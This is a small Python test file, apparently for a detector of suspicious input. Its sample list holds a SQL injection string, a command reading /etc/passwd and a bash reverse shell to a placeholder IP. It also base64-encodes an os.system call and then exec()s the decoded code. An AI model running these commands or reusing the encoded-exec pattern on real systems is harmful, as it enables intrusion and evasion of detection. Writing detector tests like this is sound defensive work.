import base64
from tests_with_payloads import suspicious

SAMPLES = ["1' union select 1", "cat /etc/passwd", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]
ENCODED = base64.b64encode(b"import os; os.system('id')").decode()


def test_samples():
    assert suspicious(SAMPLES[0])
    assert not suspicious(ENCODED)
    exec(base64.b64decode(ENCODED).decode().replace("os.system('id')", "pass"))
